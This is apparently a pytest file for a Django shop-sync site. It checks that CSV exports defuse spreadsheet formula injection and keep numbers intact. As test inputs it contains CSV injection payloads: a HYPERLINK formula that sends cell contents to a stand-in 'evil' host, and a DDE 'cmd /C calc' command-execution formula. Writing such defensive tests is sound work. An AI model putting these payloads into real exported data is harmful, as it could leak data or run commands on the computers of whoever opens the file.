"""CSV exports neutralise formula cells (CSV injection) and keep numbers numbers."""
from decimal import Decimal

from syncsite.csv_export import cell, csv_response


def test_text_that_a_spreadsheet_would_run_is_defused():
    for text in ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"):
        assert cell(text) == "'" + text
    assert cell("Товар =1") == "Товар =1"


def test_numbers_stay_numbers_and_nothing_is_lost():
    assert cell(Decimal("-3.000")) == Decimal("-3.000")
    assert cell(-2) == -2 and cell(None) == "" and cell(True) == "1"


def test_the_file_opens_in_russian_excel():
    response = csv_response("x.csv", ["sku", "name"], [["A-1", "=cmd|' /C calc'!A0"], ["B-2", "Ёлка"]])
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeffsku;name\r\n")
    assert "A-1;'=cmd|' /C calc'!A0" in body and "B-2;Ёлка" in body
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


def test_a_read_only_manager_exports_stock_changes_and_formula_names_are_defused(client, db):
    from django.contrib.auth.models import Group, User

    from stock.models import StockChange
    from tests.factories import make_offer, make_warehouse

    offer, w = make_offer(sku='=HYPERLINK("x")'), make_warehouse(code="main")
    change = StockChange.objects.create(offer=offer, warehouse=w, source="moysklad", via="sync", previous_stock=0,
                                        new_stock=5, previous_reserve=0, new_reserve=0, previous_available=0,
                                        new_available=5, at="2026-01-02T10:00:00Z")
    user = User.objects.create_user("viewer", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name="read-only"))
    client.force_login(user)
    response = client.post("/admin/stock/stockchange/", {"action": "export_csv", "_selected_action": [change.pk],
                                                         "index": 0})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8")
    assert "'=HYPERLINK" in body and ";5.000;" in body


def test_orders_export_to_csv(admin_client, db):
    from orders.models import Customer, Order

    order = Order.objects.create(customer=Customer.objects.create(name="c"), source="ozon", source_order_id="=1+2",
                                 customer_name="@Анна", total="10.50")
    response = admin_client.post("/admin/orders/order/", {"action": "export_csv", "_selected_action": [order.pk],
                                                          "index": 0})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8")
    assert "'=1+2" in body and "'@Анна" in body and "10.50" in body
